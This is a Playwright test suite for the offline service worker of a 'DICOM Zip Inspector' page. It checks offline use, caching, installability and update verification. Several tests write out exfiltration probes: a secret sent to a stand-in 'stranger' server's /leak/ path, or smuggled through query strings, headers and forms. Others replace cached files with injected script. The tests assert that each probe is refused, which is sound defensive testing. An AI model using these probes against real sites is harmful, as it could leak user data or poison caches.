"""Journey: after one visit the page opens and works without network, and its service worker lets nothing out."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect

import build
from e2e.browser import Inspector, dist_directory, launch
from e2e.engines import ENGINES, EngineMissingError, wait_for_state
from e2e.server import Request, Server, serve

CHANNELS = (Path(__file__).parent / "channels.js").read_text()
SECRET = "Sample-Anna"


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context(viewport={"width": 1280, "height": 720})
    yield context
    context.close()


def visit(context: BrowserContext, site: Server) -> None:
    """Open the page, wait until the browser keeps the site, and leave."""
    page = context.new_page()
    Inspector(page, site).open_ready()
    page.wait_for_selector("html[data-offline=kept]")
    page.close()


@contextmanager
def visited(context: BrowserContext, dist: Path) -> Iterator[Server]:
    """A site that was visited once."""
    with serve(dist) as site:
        visit(context, site)
        site.requests.clear()
        yield site


def kept_hashes(context: BrowserContext) -> dict[str, list[str]]:
    """What lies in the caches of the site, as its service worker sees them."""
    [worker] = context.service_workers
    found: dict[str, list[str]] = worker.evaluate(
        """async () => Object.fromEntries(await Promise.all((await caches.keys()).map(async name =>
            [name, (await (await caches.open(name)).keys()).map(({ url }) => url.split('/').pop())])))"""
    )
    return found


def listed_hashes(dist: Path) -> set[str]:
    files = json.loads((dist / "manifest.json").read_text())["files"]
    assets = json.loads((dist / "assets.json").read_text())
    left_out = {"service-worker.js", (assets["download"] or {}).get("url")}
    inflated = {file["inflated"]["sha256"] for file in assets["files"] if "inflated" in file}
    return inflated | {file["sha256"] for file in files if file["url"] not in left_out}


# --- without network --------------------------------------------------------------------------------------------------


def test_after_one_visit_the_page_opens_and_reviews_with_the_server_gone(context: BrowserContext) -> None:
    with serve(dist_directory()) as site:
        visit(context, site)
    inspector = Inspector(context.new_page(), site).open_ready()
    inspector.page.get_by_role("button", name="Try the sample").click()
    inspector.wait_for("done")
    report = inspector.report()
    assert (report["verdict"], report["archive"]["dicom"] >= 60) == ("identified", True)
    assert inspector.show(1)[0] > 0
    assert [attempt for attempt in inspector.page.evaluate("inspector.probe()") if not attempt["refused"]] == []


def test_it_works_from_any_folder_and_leaves_its_neighbours_alone(context: BrowserContext, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text("<title>neighbour</title>")
    shutil.copytree(dist_directory(), tmp_path / "some" / "folder")
    with serve(tmp_path) as site:
        visit(context, Server(f"{site.origin}/some/folder"))
        page = context.new_page()
        page.goto(f"{site.origin}/?{SECRET}")
        assert page.title() == "neighbour"
    Inspector(page, Server(f"{site.origin}/some/folder")).open_ready()


@pytest.mark.parametrize("engine", ["Chromium", "Gecko"])
def test_every_engine_with_service_workers_opens_it_again(engine: str, browser: Browser) -> None:
    try:
        with ENGINES[engine](browser) as tab:
            with serve(dist_directory()) as site:
                tab.open(site.origin + "/")
                wait_for_state(tab, "ready")
                kept = """async () => {
                    while (!document.documentElement.dataset.offline) await new Promise(next => setTimeout(next, 50));
                    return document.documentElement.dataset.offline;
                }"""
                assert tab.evaluate(kept) == "kept"
            tab.open(site.origin + "/")
            wait_for_state(tab, "ready")
            attempts = tab.evaluate("() => window.inspector.probe()")
            assert {attempt["from"] for attempt in attempts} == {"page", "worker", "python"}
            assert [attempt for attempt in attempts if not attempt["refused"]] == []
    except EngineMissingError as missing:
        pytest.skip(f"NOT TESTED in {missing}, which is not installed")


def test_nothing_but_the_site_is_kept(context: BrowserContext, sample: Path) -> None:
    with visited(context, dist_directory()) as site:
        Inspector(context.new_page(), site).open_ready().review(sample)
        [kept] = kept_hashes(context).values()
        assert set(kept) == listed_hashes(dist_directory())


def test_where_there_is_no_service_worker_the_page_works_as_ever(playwright: Playwright, sample: Path) -> None:
    """As delivered without HTTPS by another machine."""
    with (
        launch(playwright, "--host-resolver-rules=MAP site.test 127.0.0.1") as browser,
        serve(dist_directory()) as site,
    ):
        elsewhere = Server(site.origin.replace("127.0.0.1", "site.test"))
        inspector = Inspector(browser.new_page(), elsewhere).open_ready()
        assert inspector.page.evaluate("isSecureContext") is False
        assert inspector.review(sample)["verdict"] == "identified"
        inspector.page.wait_for_selector("html[data-offline=no]", state="attached")


def test_it_can_be_installed(context: BrowserContext) -> None:
    with serve(dist_directory()) as site:
        page = context.new_page()
        session = context.new_cdp_session(page)
        # Browsers that install read the manifest when the page has loaded; the lock waits for that here.
        page.route("**/runtime/*", lambda _: None)
        inspector = Inspector(page, site).open()
        manifest = session.send("Page.getAppManifest")
        errors = session.send("Page.getInstallabilityErrors")["installabilityErrors"]
        page.unroute("**/runtime/*")
        inspector.wait_for("ready")
        assert manifest["errors"] == []
        assert json.loads(manifest["data"])["name"] == "DICOM Zip Inspector"
        # A private window, as tests open them, installs nothing.
        assert [error["errorId"] for error in errors if error["errorId"] != "in-incognito"] == []


def test_about_says_what_this_is_and_offers_the_same_as_one_zip(inspector: Inspector) -> None:
    page = inspector.page
    expect(page.get_by_text("Version 0.1.0")).to_be_visible()
    page.get_by_role("button", name="About").click()
    dialog = page.get_by_role("dialog", name="About this page")
    assets = (dist_directory() / "assets.json").read_bytes()
    zipped = json.loads(assets)["download"]
    for words in (hashlib.sha256(assets).hexdigest(), zipped["sha256"], "edition 2026d", "build.py verify http://"):
        expect(dialog).to_contain_text(words)
    with page.expect_download() as saved:  # the lock lets the user's own click pass
        dialog.get_by_role("link", name=zipped["url"]).click()
    assert hashlib.sha256(saved.value.path().read_bytes()).hexdigest() == zipped["sha256"]
    for name in ("licences.txt", "bom.json", "manifest.json"):
        with page.context.expect_page() as opened:
            dialog.get_by_role("link", name=name).click()
        opened.value.wait_for_load_state()
        assert opened.value.url == f"{inspector.site.origin}/{name}"
        opened.value.close()
    assert inspector.state == "ready"


# --- nothing gets out through it --------------------------------------------------------------------------------------


def test_a_second_visit_asks_the_server_for_nothing_but_a_newer_version(context: BrowserContext, sample: Path) -> None:
    with visited(context, dist_directory()) as site:
        inspector = Inspector(context.new_page(), site).open_ready()
        inspector.review(sample)
        inspector.page.wait_for_timeout(1500)  # the browser looks for a newer version when it thinks it time
        assert set(site.requests) <= {Request("GET", "/service-worker.js")}


@pytest.mark.parametrize("where", ["stranger", "site"])
def test_no_channel_of_a_page_with_service_worker_gets_out(
    context: BrowserContext, stranger: Server, sample: Path, where: str
) -> None:
    with visited(context, dist_directory()) as site:
        page = context.new_page()
        inspector = Inspector(page, site).open_ready()
        assert page.evaluate("performance.getEntriesByType('navigation')[0].workerStart") > 0  # it did answer
        inspector.review(sample)
        before = len(stranger.requests)
        base = {"stranger": stranger, "site": site}[where].origin
        outcomes = page.evaluate(CHANNELS, {"base": base, "secret": SECRET})
        assert not [channel for channel, outcome in outcomes.items() if outcome in {"answered", "loaded", "opened"}]
        for worker in page.workers:
            refused = "url => fetch(url).then(() => 'answered', () => 'refused')"
            assert worker.evaluate(refused, f"{base}/leak/{SECRET}") == "refused"
            assert worker.evaluate(refused, f"{base}/index.html") == "refused"
        assert [request for request in site.requests if request.path != "/service-worker.js"] == []
        assert len(stranger.requests) == before


def test_neither_page_nor_workers_can_speak_to_it_or_to_its_cache(context: BrowserContext) -> None:
    with visited(context, dist_directory()) as site:
        page = context.new_page()
        Inspector(page, site).open_ready()
        found = """[typeof caches, typeof navigator.serviceWorker,
            ...['caches', 'serviceWorker'].map(name => [globalThis, navigator].flatMap(one => {
                const ways = [];
                for (let at = one; at; at = Object.getPrototypeOf(at)) {
                    const { get, value } = Object.getOwnPropertyDescriptor(at, name) ?? {};
                    if (get || value) ways.push(at.constructor.name);
                }
                return ways;
            }).join())]"""
        assert page.workers
        for realm in (page, *page.workers):
            assert realm.evaluate(found) == ["undefined", "undefined", "", ""]
        with pytest.raises(Exception, match="service-worker"):
            page.evaluate("trustedTypes.createPolicy('service-worker', { createScriptURL: url => url })")


# What code on a page without any lock could ask of the service worker.
ASKED = """async ({ site, stranger, secret }) => {
    const asked = {
        query: [`${site}/index.html?${secret}`],
        'empty query': [`${site}/index.html?`],
        'unknown name': [`${site}/${secret}`],
        'name of a prototype': [`${site}/constructor`],
        'outside of the folder': [`${site}/../${secret}`],
        body: [`${site}/index.html`, { method: 'POST', body: secret }],
        method: [`${site}/index.html`, { method: 'HEAD' }],
        stranger: [`${stranger}/leak/${secret}`, { mode: 'no-cors' }],
        header: [`${site}/manifest.json`, { headers: { 'X-Secret': secret } }],
        'header of a kept file': [`${site}/index.html`, { headers: { 'X-Secret': secret }, cache: 'reload' }],
    };
    const said = await Promise.all(Object.entries(asked).map(async ([name, request]) =>
        [name, await fetch(...request).then(({ status }) => status, () => 'refused')]));
    return Object.fromEntries(said);
}"""


def test_it_hands_on_no_more_than_the_name_of_a_file(context: BrowserContext, stranger: Server) -> None:
    with visited(context, dist_directory()) as site:
        before = len(stranger.requests)
        page = context.new_page()
        page.goto(f"{site.origin}/LICENSE.txt")  # the service worker answers for it, and no policy holds there
        site.requests.clear()
        asked = page.evaluate(ASKED, {"site": site.origin, "stranger": stranger.origin, "secret": SECRET})
        assert {name for name, said in asked.items() if said == 200} == {"header", "header of a kept file"}
        assert {said for said in asked.values() if said != 200} == {"refused"}
        assert set(site.requests) <= {Request("GET", f"/{name}") for name in ("manifest.json", "service-worker.js")}
        assert len(stranger.requests) == before


def test_headers_of_a_request_stay_behind(context: BrowserContext) -> None:
    with visited(context, dist_directory()) as site:
        page = context.new_page()
        page.goto(f"{site.origin}/LICENSE.txt")
        site.requests.clear()
        page.evaluate("url => fetch(url, { headers: { 'X-Secret': 'x' } })", f"{site.origin}/manifest.json")
        assert Request("GET", "/manifest.json") in site.requests
        assert not any("x-secret" in request.headers for request in site.requests)


@pytest.mark.parametrize("path", [f"/?{SECRET}", f"/index.html?{SECRET}#tab=files", f"/{SECRET}", f"/{SECRET}/?a"])
def test_an_address_with_more_than_a_name_is_not_asked_for(context: BrowserContext, path: str) -> None:
    with visited(context, dist_directory()) as site:
        page = context.new_page()
        page.goto(site.origin + path)
        assert not any(SECRET in request.path for request in site.requests)
        if "?" in path and path.index("?") < path.index(SECRET):
            assert SECRET not in page.url
            Inspector(page, site).wait_for("ready")


def test_a_form_is_not_sent_through_it(context: BrowserContext) -> None:
    with visited(context, dist_directory()) as site:
        page = context.new_page()
        page.goto(f"{site.origin}/LICENSE.txt")
        page.evaluate(
            """secret => {
            const form = document.body.appendChild(document.createElement('form'));
            Object.assign(form, { method: 'post', action: './' });
            form.append(Object.assign(document.createElement('input'), { name: 'a', value: secret }));
            form.submit();
        }""",
            SECRET,
        )
        page.wait_for_timeout(500)
        assert not [request for request in site.requests if request.method != "GET"]


def test_what_was_changed_in_the_cache_is_not_run(context: BrowserContext) -> None:
    with visited(context, dist_directory()) as site:
        page = context.new_page()
        page.goto(f"{site.origin}/LICENSE.txt")
        page.evaluate("""async () => {
            for (const name of await caches.keys()) {
                const cache = await caches.open(name);
                for (const key of await cache.keys()) {
                    const { headers } = await cache.match(key);
                    await cache.put(key, new Response('globalThis.evil = true;', { headers }));
                }
            }
        }""")
        page.goto(f"{site.origin}/")
        page.wait_for_selector("html[data-state=ready], html[data-state=error]")
        assert page.evaluate("globalThis.evil") is None
        assert page.title() == "DICOM Zip Inspector"


# --- a newer version --------------------------------------------------------------------------------------------------


def publish(dist: Path, name: str, more: str) -> None:
    """Publish a version in which a file says more."""
    with (dist / name).open("a") as file:
        file.write(more)
    worker = (dist / "service-worker.js").read_text()
    build.list_files(dist, worker[worker.index("\n};\n") + 4 :], None)


@pytest.fixture
def copy(tmp_path: Path) -> Path:
    """A site that may be changed."""
    dist = tmp_path / "dist"
    shutil.copytree(dist_directory(), dist, ignore=shutil.ignore_patterns("dicom-zip-inspector-*.zip"))
    publish(dist, "LICENSE.txt", "")
    return dist


def marked(page: Page) -> Any:
    return page.evaluate("getComputedStyle(document.documentElement).getPropertyValue('--newer')")


def test_a_newer_version_is_announced_and_waits_for_the_next_time(
    context: BrowserContext, copy: Path, sample: Path
) -> None:
    with visited(context, copy) as site:
        publish(copy, "page.css", "\n:root { --newer: yes; }\n")
        page = context.new_page()
        inspector = Inspector(page, site).open_ready()
        assert inspector.review(sample)["verdict"] == "identified"
        expect(page.get_by_text("A new version")).to_be_visible()
        assert (inspector.state, marked(page)) == ("done", "")
        fetched = {request.path for request in site.requests}
        assert fetched == {"/service-worker.js", "/page.css", "/assets.json"}
    page.close()
    newer = Inspector(context.new_page(), site).open_ready()  # the server is gone
    assert marked(newer.page) == "yes"
    expect(newer.page.get_by_text("A new version")).to_be_hidden()
    [kept] = kept_hashes(context).values()
    assert set(kept) == listed_hashes(copy)


def test_a_version_that_is_not_what_it_lists_is_not_taken(context: BrowserContext, copy: Path) -> None:
    with visited(context, copy) as site:
        publish(copy, "page.css", "\n:root { --newer: yes; }\n")
        (copy / "page.css").write_text(":root { --newer: evil; }")
        page = context.new_page()
        Inspector(page, site).open_ready()
        page.wait_for_timeout(2500)
        expect(page.get_by_text("A new version")).to_be_hidden()
        page.close()
    again = Inspector(context.new_page(), site).open_ready()
    assert marked(again.page) == ""
